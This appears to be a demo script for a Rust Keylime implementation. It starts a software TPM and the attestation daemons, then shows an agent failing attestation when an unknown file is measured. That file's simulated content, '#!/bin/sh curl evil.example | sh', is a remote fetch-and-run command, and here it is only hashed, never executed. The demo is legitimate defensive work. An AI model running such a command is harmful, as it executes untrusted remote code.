#!/usr/bin/env bash
# The keylime-rs demo: installs what is missing, builds the release binaries, starts a software
# TPM (swtpm, manufactured with an EK certificate) and the three daemons, enrolls the agent with
# a runtime policy, shows it attested, then runs a file the policy does not allow (an IMA entry
# appended and PCR 10 extended to match, as the kernel would) and shows the agent failing with
# a finding that names the file. Everything lives in a temporary directory and is stopped at
# the end. KEEP=1 keeps the directory and the daemons' logs.
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/install-deps.sh
echo "building (release)..." >&2
cargo build --release --locked --quiet -p kl-registrar -p kl-verifier -p kl-agent -p kctl
bin=$PWD/target/release

work=$(mktemp -d /tmp/keylime-demo.XXXXXX)
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
    wait 2>/dev/null || true
    if [[ -n ${TPM_PORT:-} ]]; then
        TPM2TOOLS_TCTI=swtpm:host=127.0.0.1,port=$TPM_PORT tpm2_shutdown -c 2>/dev/null || true
        swtpm_ioctl --tcp 127.0.0.1:$((TPM_PORT + 1)) -s 2>/dev/null || true
    fi
    if [[ ${KEEP:-0} == 1 ]]; then echo "kept $work" >&2; else rm -rf "$work"; fi
}
trap cleanup EXIT
export TSS2_LOG=all+NONE

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
show() { printf '$ %s\n' "$*"; "$@"; }
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
wait_port() {
    for _ in $(seq 300); do
        (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null && return 0
        sleep 0.1
    done
    echo "port $1 never opened; logs in $work" >&2
    exit 1
}

step "A software TPM with an EK certificate from its own CA (swtpm_setup)"
mkdir -p "$work/tpm/localca" "$work/tpm/state" "$work/kl/tpm_cert_store"
cat > "$work/tpm/localca.conf" <<CONF
statedir = $work/tpm/localca
signingkey = $work/tpm/localca/signkey.pem
issuercert = $work/tpm/localca/issuercert.pem
certserial = $work/tpm/localca/certserial
CONF
printf -- '--platform-manufacturer Demo\n--platform-version 2.1\n--platform-model swtpm\n' > "$work/tpm/localca.options"
cat > "$work/tpm/swtpm_setup.conf" <<CONF
create_certs_tool = /usr/bin/swtpm_localca
create_certs_tool_config = $work/tpm/localca.conf
create_certs_tool_options = $work/tpm/localca.options
CONF
swtpm_setup --tpm2 --tpmstate "$work/tpm/state" --config "$work/tpm/swtpm_setup.conf" \
    --create-ek-cert --pcr-banks sha1,sha256 --overwrite >/dev/null
cp "$work/tpm/localca/swtpm-localca-rootca-cert.pem" "$work/tpm/localca/issuercert.pem" "$work/kl/tpm_cert_store/"
TPM_PORT=$(free_port)
while ! python3 -c "import socket,sys; s=socket.socket(); s.bind(('127.0.0.1',$((TPM_PORT + 1))))" 2>/dev/null; do TPM_PORT=$(free_port); done
swtpm socket --tpm2 --tpmstate dir="$work/tpm/state" \
    --server type=tcp,port=$TPM_PORT,bindaddr=127.0.0.1 --ctrl type=tcp,port=$((TPM_PORT + 1)),bindaddr=127.0.0.1 \
    --flags not-need-init,startup-clear &
pids+=($!)
wait_port "$TPM_PORT"
export TPM2TOOLS_TCTI=swtpm:host=127.0.0.1,port=$TPM_PORT
tpm2_dictionarylockout -s -n 4294967295 -t 0 -l 0 >/dev/null 2>&1 || true
echo "swtpm on port $TPM_PORT"

# A synthetic IMA log (this machine has no IMA): each entry appended and PCR 10 extended to match.
ima=$work/ascii_runtime_measurements
: > "$ima"
measure() {
    local line extend
    read -r line extend < <(python3 - "$1" "$2" <<'PY'
import hashlib, struct, sys
path, content = sys.argv[1].encode(), sys.argv[2].encode()
digest = hashlib.sha256(content).digest()
data = struct.pack("<I", 8 + 32) + b"sha256:\0" + digest + struct.pack("<I", len(path) + 1) + path + b"\0"
print("10|%s|ima-ng|sha256:%s|%s" % (hashlib.sha1(data).hexdigest(), digest.hex(), path.decode()),
      hashlib.sha256(data).hexdigest())
PY
)
    echo "${line//|/ }" >> "$ima"
    tpm2_pcrextend "10:sha256=$extend"
}
measure boot_aggregate "demo boot"
for f in /usr/bin/bash /usr/bin/ls /usr/lib/systemd/systemd; do measure "$f" "contents of $f"; done

step "The verifier (creates the deployment CA on first start), the registrar and the agent"
VERIFIER_PORT=$(free_port); REGISTRAR_PORT=$(free_port); AGENT_PORT=$(free_port)
UUID=d432fbb3-d2f1-4a97-9ef7-75bd81c00000
cat > "$work/verifier.conf" <<CONF
keylime_dir = "$work/kl"
port = $VERIFIER_PORT
registrar_port = $REGISTRAR_PORT
quote_interval = 1
retry_interval = 0.5
CONF
cat > "$work/registrar.conf" <<CONF
keylime_dir = "$work/kl"
port = $REGISTRAR_PORT
tpm_cert_store = "$work/kl/tpm_cert_store"
CONF
cat > "$work/agent.conf" <<CONF
[agent]
keylime_dir = "$work/agent"
uuid = "$UUID"
port = $AGENT_PORT
registrar_port = $REGISTRAR_PORT
tcti = "swtpm:host=127.0.0.1,port=$TPM_PORT"
trusted_client_ca = "$work/kl/cv_ca/cacert.crt"
ima_ml_path = "$ima"
measuredboot_ml_path = "$work/no-event-log"
secure_size = 0
CONF
cat > "$work/tenant.conf" <<CONF
keylime_dir = "$work/kl"
verifier_port = $VERIFIER_PORT
registrar_port = $REGISTRAR_PORT
CONF
"$bin/keylime_verifier" --config "$work/verifier.conf" > "$work/verifier.log" 2>&1 & pids+=($!)
wait_port "$VERIFIER_PORT"
"$bin/keylime_registrar" --config "$work/registrar.conf" > "$work/registrar.log" 2>&1 & pids+=($!)
wait_port "$REGISTRAR_PORT"
"$bin/keylime_agent" --config "$work/agent.conf" > "$work/agent.log" 2>&1 & pids+=($!)
wait_port "$AGENT_PORT"
echo "verifier :$VERIFIER_PORT, registrar :$REGISTRAR_PORT, agent :$AGENT_PORT (logs in $work/*.log)"

kctl() { "$bin/kctl" --config "$work/tenant.conf" "$@"; }
for _ in $(seq 100); do kctl registrar show "$UUID" >/dev/null 2>&1 && break; sleep 0.2; done

step "The registrar knows the agent: its EK certificate chains to the TPM vendor CA"
show kctl registrar list

step "A runtime policy from the machine's known-good measurements, stored at the verifier"
kctl policies runtime generate --ima-log "$ima" --out "$work/policy.json" >/dev/null
show kctl policies runtime apply demo --file "$work/policy.json"

step "Enroll the agent and wait for its first attestation"
show kctl agents enroll "$UUID" --runtime-policy demo --wait --timeout 60 || true

step "An unknown program runs: IMA measures it into PCR 10"
echo "\$ /tmp/evil   (IMA: 10 ... ima-ng sha256:... /tmp/evil)"
measure /tmp/evil "#!/bin/sh\ncurl evil.example | sh"

step "The verifier's next quote fails the agent, naming the file"
for _ in $(seq 100); do
    state=$(kctl agents show "$UUID" -o json | python3 -c 'import json,sys; print(json.load(sys.stdin)["state"])')
    [[ $state == failed ]] && break
    sleep 0.2
done
show kctl agents show "$UUID" -o json
echo
echo "Done: the agent attested, then failed on /tmp/evil. (KEEP=1 $0 keeps $work and the logs.)"
